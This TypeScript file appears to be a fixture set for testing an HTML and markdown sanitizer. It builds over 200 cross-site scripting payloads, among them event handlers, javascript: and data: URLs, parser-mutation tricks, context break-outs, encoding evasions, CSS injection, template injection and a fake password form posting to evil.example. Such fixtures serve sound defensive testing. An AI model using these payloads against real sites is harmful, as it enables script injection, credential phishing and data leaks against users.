/**
 * Documents that attack the places where an article is edited, read or mailed, by class of attack.
 * Each tries to call `alert`, navigate to evil.example, or cover the page.
 */
const runs = 'alert(1)';

const elements = ['script', 'iframe', 'object', 'embed', 'applet', 'frameset', 'svg', 'math', 'style', 'link', 'meta', 'base', 'form', 'video', 'audio', 'template', 'noscript', 'portal', 'marquee', 'xmp', 'plaintext', 'textarea'] as const;
const handlers = ['onerror', 'onload', 'onfocus', 'onclick', 'onmouseover', 'onpointerenter', 'ontoggle', 'onbegin', 'onanimationstart', 'ontransitionend', 'onpageshow', 'onhashchange', 'onmessage', 'onwheel', 'oncut', 'onpaste', 'onbeforeinput', 'onscrollend', 'oncontentvisibilityautostatechange', 'onbeforetoggle'] as const;
const addresses = [
  `javascript:${runs}`, `JaVaScRiPt:${runs}`, ` javascript:${runs}`, `java\tscript:${runs}`, `java\nscript:${runs}`, `\u0001javascript:${runs}`, `javascript&colon;${runs}`, `&#106;avascript:${runs}`, `&#x6A;avascript:${runs}`, `jav&#x09;ascript:${runs}`,
  `vbscript:${runs}`, `data:text/html,<script>${runs}</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', `data:image/svg+xml,<svg onload=${runs}>`, '//evil.example/x', '/\\evil.example', 'https://user:pass@evil.example@shop.example/', `view-source:javascript:${runs}`, 'blob:https://evil.example/1', 'filesystem:https://evil.example/x',
] as const;

/** Markup that switches the HTML parser into another mode and back. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${runs}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${runs}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${runs}>`,
  `<noscript><p title="</noscript><img src=x onerror=${runs}>">`, `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${runs}></style></annotation-xml></math>`, `<svg><foreignObject><iframe srcdoc="<script>${runs}</script>"></foreignObject></svg>`,
  `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${runs}>">`, `<table><td><a href="x"><table><img src=x onerror=${runs}></table></a></td></table>`, `<xmp><p title="</xmp><svg/onload=${runs}>">`, `<textarea><p title="</textarea><svg/onload=${runs}>">`, `<title><p title="</title><svg/onload=${runs}>">`,
  `<svg><desc><![CDATA[</desc><script>${runs}</script>]]></svg>`, `<svg><title><style><img src="</style><img src=x onerror=${runs}//"></title></svg>`, `<math><mi//xlink:href="data:x,<script>${runs}</script>">`, `<svg><a xlink:href="javascript:${runs}"><text x=20 y=20>x</text></a></svg>`, `<svg><animate onbegin=${runs} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${runs}</script></svg>#x"></use></svg>`, `<svg><set attributeName=href to="javascript:${runs}"></set></svg>`, `<svg><script xlink:href="data:,${runs}"></script></svg>`, `<iframe srcdoc="&lt;script&gt;${runs}&lt;/script&gt;"></iframe>`,
] as const;

const breakOuts = [
  `"><script>${runs}</script>`, `'><script>${runs}</script>`, '`><svg onload=alert(1)>', `</p></article></main><script>${runs}</script>`, `--><script>${runs}</script><!--`, `]]><script>${runs}</script>`, `</title><script>${runs}</script>`, `</textarea><script>${runs}</script>`, `</style><script>${runs}</script>`, `</script><script>${runs}</script>`,
  `<!--[if IE]><script>${runs}</script><![endif]-->`, `<![CDATA[<script>${runs}</script>]]>`, `<?xml-stylesheet href="javascript:${runs}"?>`, `<?php echo '<script>${runs}</script>' ?>`, `<% response.write("<script>${runs}</script>") %>`, `<<script>${runs}//<</script>`, `<scr<script>ipt>${runs}</scr</script>ipt>`, `<script\u0000>${runs}</script>`, `<script/x>${runs}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
] as const;

const encodings = [
  `&lt;script&gt;${runs}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${runs}`, `&#60;script&#62;${runs}&#60;/script&#62;`, `%3Cscript%3E${runs}%3C/script%3E`, `\\u003cscript\\u003e${runs}`, `\uFF1Cscript\uFF1E${runs}\uFF1C/script\uFF1E`, `+ADw-script+AD4-${runs}+ADw-/script+AD4-`, `\u2028<script>${runs}</script>\u2029`, `\u202E<tpircs>${runs}`, `<\u200Bscript>${runs}</script>`,
] as const;

const styles = [
  `<p style="background:url(javascript:${runs})">x</p>`, `<p style="width:expression(${runs})">x</p>`, `<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>`, '<div style="position:fixed;inset:0;z-index:99999;background:#fff">covers</div>', '<style>@import "//evil.example/x.css"</style>', '<style>*{background:url(//evil.example/leak)}</style>',
  '<p style="behavior:url(x.htc)">x</p>', '<link rel=stylesheet href=//evil.example/x.css>', '<p class="t-button" style="content:url(//evil.example)">x</p>', '<input style="background:url(//evil.example/?v)" value=x>',
] as const;

const pages = [
  '<base href="//evil.example/">', '<meta http-equiv=refresh content="0;url=//evil.example">', `<meta http-equiv=refresh content="0;url=javascript:${runs}">`, '<form action=//evil.example><input name=password type=password><button>Sign in</button></form>', `<button formaction="javascript:${runs}">x</button>`, `<isindex action="javascript:${runs}">`,
  '<a id=host name=host>x</a><a id=host name=api href=//evil.example>x</a>', '<img name=cookie><form name=body><input name=innerHTML></form>', '<object data=//evil.example/x.swf></object>', '<img src=//evil.example/pixel.gif width=1 height=1>', '<img srcset="//evil.example/a 1x" alt=x>', '<video poster=//evil.example/x src=//evil.example/y autoplay></video>', '<a href="//evil.example" ping="//evil.example/ping" target=_top rel=opener>x</a>', '<iframe src=//evil.example sandbox="allow-scripts allow-top-navigation"></iframe>',
] as const;

const templates = ['{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{subject, select, other {<script>alert(1)</script>}}', '[[alert(1)]]', '{% raw %}<script>alert(1)</script>{% endraw %}', '<div ng-app>{{$on.constructor("alert(1)")()}}</div>', '<div v-html="\'<img src=x onerror=alert(1)>\'"></div>', '<div x-data x-init="alert(1)"></div>'] as const;

const markdown = [
  ...addresses.slice(0, 12).map((address) => `[read on](${address})`), `![x](javascript:${runs})`, `![x](//evil.example/pixel.gif)`, `<javascript:${runs}>`, `[x]: javascript:${runs}\n\n[read on][x]`, `[read on](<javascript:${runs}>)`, `[x](https://shop.example "onmouseover=${runs}")`, `![x](x "onerror=${runs}")`, `\`\`\`html\n<script>${runs}</script>\n\`\`\``, `    <script>${runs}</script>`, `> <img src=x onerror=${runs}>`,
  `# <svg onload=${runs}>`, `| a | b |\n|---|---|\n| <img src=x onerror=${runs}> | [x](javascript:${runs}) |`, `- [x](javascript:${runs})\n- <iframe src=//evil.example>`, `**<b onclick=${runs}>x</b>**`,
] as const;

/** Over 200 distinct documents. All documents of one class use the same kind of attack. */
export const hostileDocuments: Readonly<Record<string, readonly string[]>> = {
  elements: elements.flatMap((element) => [`<${element} src=//evil.example/x href="javascript:${runs}">${runs}</${element}>`, `<${element.toUpperCase()}/onload=${runs}//`]),
  handlers: handlers.map((handler) => `<p ${handler}="${runs}" tabindex=1 autofocus><b ${handler}=${runs}>words</b></p>`),
  addresses: addresses.flatMap((address) => [`<a href="${address}">read on</a>`, `<img data-src="${address}" src="${address}" alt="x"><div data-embed="${address}">x</div>`]),
  mutations, breakOuts, encodings, styles, pages, templates, markdown,
};
